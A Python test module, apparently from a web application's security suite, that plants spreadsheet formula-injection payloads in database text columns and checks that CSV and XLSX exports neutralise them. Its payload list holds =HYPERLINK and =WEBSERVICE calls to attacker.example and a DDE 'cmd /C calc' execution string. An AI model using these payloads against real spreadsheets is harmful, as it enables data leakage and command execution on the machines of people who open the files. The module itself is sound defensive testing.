"""Row 12: texts that a spreadsheet program could run, written by people, through every file that leaves.

Each payload is put before what stands in every column that people write; then every route that answers with
a CSV file or a workbook is asked for it. A cell with a payload must be a text, by rule and in LibreOffice.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import zipfile
from collections.abc import Iterator, Sequence
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any
from xml.etree import ElementTree as ET

import psycopg2
import xlsxwriter

from suppliers.spreadsheets import CONTENT_TYPES
from tests import databases
from tests.prove.outcome import Outcome
from tests.security.matrix import CLOSED, PEOPLE, Line, Person, lines
from tests.security.walk import Walker
from workspace.exporting import PARAMETER

MARK = "7919"
#: What programs are known to run, and disguises of it.
PAYLOADS = (
    *(f"{sign}{MARK}+1" for sign in "=+-@＝＋－＠"),
    *(f"{blank}={MARK}+1" for blank in ("\t", "\r", "\n", " ", "\u00a0", "\u200b", "\ufeff", "\u3000")),
    *(f"{sign}={MARK}+1" for sign in (",", ";", '"', "'", '",', '";', "|", "%", "(")),
    f'=HYPERLINK("http://attacker.example/{MARK}","open")',
    f'=WEBSERVICE("http://attacker.example/{MARK}")',
    f"=cmd|' /C calc {MARK}'!A0",
    f'=DDE("soffice","{MARK}","A1")',
    f"@SUM({MARK},1)",
    f"{{={MARK}+1}}",
    f"=={MARK}+1",
)
#: Columns that hold what somebody wrote.
WRITTEN = {
    *("name", "file_name", "address", "region", "note", "reason", "title", "text", "summary", "material"),
    *("contact_name", "authority", "source", "label", "reference", "comment", "what", "lesson", "remedy"),
    *("parent_company", "risk_reason", "use_reason", "root_cause", "change", "scope", "purpose", "action"),
    *("lead", "area_note", "measure", "description", "facts", "finding", "statement", "answer", "said"),
}
_FORMULA_STARTS = tuple("=+-@\t\r\n＝＋－＠")
_SECONDS = 600
_F, _T = (f"{{http://schemas.openxmlformats.org/spreadsheetml/2006/main}}{name}" for name in "ft")
_LIVE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}formula"
#: Import options of CSV: comma, quotes, UTF-8, from line 1, no column formats; the last: run formulas.
_CSV_OPTIONS = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"


@dataclass(frozen=True)
class File:
    """A file that left, and the payload its texts began with."""

    route: str
    kind: str
    payload: str
    content: bytes

    def cells(self) -> Iterator[tuple[str, bool]]:
        """Its texts and formulas, and whether each is a formula as the file has it."""
        if self.kind == "csv":
            for row in csv.reader(io.StringIO(self.content.decode("utf-8-sig"), newline="")):
                yield from ((text, text.startswith(_FORMULA_STARTS)) for text in row)
            return
        with zipfile.ZipFile(io.BytesIO(self.content)) as book:
            for name in book.namelist():
                if name == "xl/sharedStrings.xml" or name.startswith("xl/worksheets/sheet"):
                    parts = ET.fromstring(book.read(name)).iter()  # noqa: S314 - our own file
                    yield from ((one.text or "", one.tag == _F) for one in parts if one.tag in (_F, _T))

    @property
    def carries(self) -> bool:
        """Whether a text with the payload stands in it."""
        return any(MARK in text for text, _ in self.cells())


class FormulaProof:
    """The proof over a database that may be spoilt; ``office`` is the path of LibreOffice, or None to hold
    the files against the rule alone."""

    def __init__(self, walker: Walker, database: str, *, payloads: Sequence[str], office: str | None) -> None:
        self._walker, self._database = walker, database
        self._payloads, self._office = payloads, office
        self.outcome = Outcome()
        self.routes: set[str] = set()
        self._pages: set[str] = set()  # routes that give no file

    def run(self) -> Outcome:
        """Plant each payload in turn and look at all files."""
        files: list[File] = []
        with databases.admin(self._database) as cursor:
            planting = _Planting(cursor)
            for payload in self._payloads:
                planting.put(payload)
                files += self._files(payload)
        carrying = [file for file in files if file.carries]
        for file in carrying:
            live = [value for value, is_live in file.cells() if is_live]
            self.outcome.expect(not live, f"{file.route}.{file.kind}: {live[:1]!r} is a formula")
        self.routes = {file.route for file in carrying}
        empty = {file.route for file in files} - self.routes
        self.outcome.notes.append(f"{len(self.routes)} routes, {len(carrying)} files")
        if empty:
            self.outcome.notes.append(f"without a text of people: {', '.join(sorted(empty))}")
        if self._office:
            self._open_again(carrying)
        return self.outcome

    def _files(self, payload: str) -> Iterator[File]:
        for line in lines():
            if line.method != "GET" or line.is_api or line.route in self._pages:
                continue
            person = _who_may(line)
            if person is None:
                continue
            found = list(self._files_of(line, person, payload))
            yield from found
            if not found:
                self._pages.add(line.route)

    def _files_of(self, line: Line, person: Person, payload: str) -> Iterator[File]:
        """The files of a route, by the kind in its path or, of a list, by its query."""
        own = self._walker.own_path(line, person)
        for kind in CONTENT_TYPES:
            path = [kind if name == "kind" else value for name, value in zip(line.objects, own, strict=True)]
            answer = self._walker.ask(line, person, path, data={PARAMETER: kind})
            sent = next((name for name, text in CONTENT_TYPES.items() if _is(answer.headers, text)), "")
            if sent:
                yield File(line.route, sent, payload, answer.content)
            elif "kind" in line.objects:
                self.outcome.expect(condition=False, fault=f"{line.route}.{kind}: {answer.status}")
            if sent != kind:
                break

    def _open_again(self, files: Sequence[File]) -> None:
        with TemporaryDirectory() as name:
            folder = Path(name)
            for number, file in enumerate(files):
                (folder / f"{number}.{file.kind}").write_bytes(file.content)
            _write_controls(folder)
            for kind in CONTENT_TYPES:
                self._convert(folder, kind)
            live = {path.stem: _live_cells(path) for path in folder.glob("out/*/*.fods")}
            for kind in CONTENT_TYPES:
                if not live.get(f"control-{kind}"):
                    self.outcome.faults.append(f"LibreOffice did not run the formula of a {kind} made to run")
            for number, file in enumerate(files):
                found = live.get(str(number))
                where = f"{file.route}.{file.kind}, {file.payload!r}"
                self.outcome.expect(found is not None, f"{where}: not opened")
                if found:
                    self.outcome.faults.append(f"{where}: {found[0]} runs in LibreOffice")

    def _convert(self, folder: Path, kind: str) -> None:
        assert self._office
        command = [self._office, "--headless", f"-env:UserInstallation={(folder / 'home').as_uri()}"]
        if kind == "csv":
            command.append(f"--infilter={_CSV_OPTIONS}")
        command += ["--convert-to", "fods", "--outdir", str(folder / "out" / kind)]
        paths = sorted(str(path) for path in folder.glob(f"*.{kind}"))
        subprocess.run([*command, *paths], check=True, capture_output=True, timeout=_SECONDS)


def office() -> str | None:
    """The path of LibreOffice on this machine."""
    return shutil.which("soffice") or shutil.which("libreoffice")


class _Planting:
    """Puts a payload before the texts people wrote, whatever guards the tables; by a superuser's cursor."""

    def __init__(self, cursor: Any) -> None:
        self._cursor = cursor
        self._old = ""
        cursor.execute("SET session_replication_role = replica")
        cursor.execute(
            "SELECT table_name, column_name, coalesce(character_maximum_length, 100000) "
            "FROM information_schema.columns JOIN information_schema.tables USING (table_schema, table_name) "
            "WHERE table_schema = 'public' AND table_type = 'BASE TABLE' AND column_name = ANY(%s) "
            "AND data_type IN ('text', 'character varying') ORDER BY 1, 2",
            [sorted(WRITTEN)],
        )
        self._columns = cursor.fetchall()

    def put(self, payload: str) -> None:
        """Replace the payload before it. A column that guards its form (a code, a slug) stays as it is."""
        for table, column, longest in self._columns:
            statement = (
                f'UPDATE "{table}" SET "{column}" = left(%s || CASE WHEN starts_with("{column}", %s) '
                f'THEN substr("{column}", %s) ELSE "{column}" END, %s) WHERE "{column}" <> \'\''
            )
            values = [payload, self._old or payload, len(self._old or payload) + 1, longest]
            with suppress(psycopg2.IntegrityError):
                self._cursor.execute(statement, values)
        self._old = payload


def _who_may(line: Line) -> Person | None:
    if line.method == CLOSED:
        return None
    return next((one for one in PEOPLE if line.statuses[one.kind] == "200"), None)


def _is(headers: Sequence[str], content_type: str) -> bool:
    return any(header.startswith(f"Content-Type: {content_type.partition(';')[0]}") for header in headers)


def _write_controls(folder: Path) -> None:
    """Files with a formula that is meant to run: what the looking must see."""
    (folder / "control-csv.csv").write_text(f"={MARK}+1\n")
    with xlsxwriter.Workbook(folder / "control-xlsx.xlsx") as book:
        book.add_worksheet().write_formula(0, 0, f"={MARK}+1")


def _live_cells(path: Path) -> list[str]:
    return [
        element.attrib[_LIVE]
        for _, element in ET.iterparse(path)  # noqa: S314 - LibreOffice wrote it just now
        if _LIVE in element.attrib
    ]
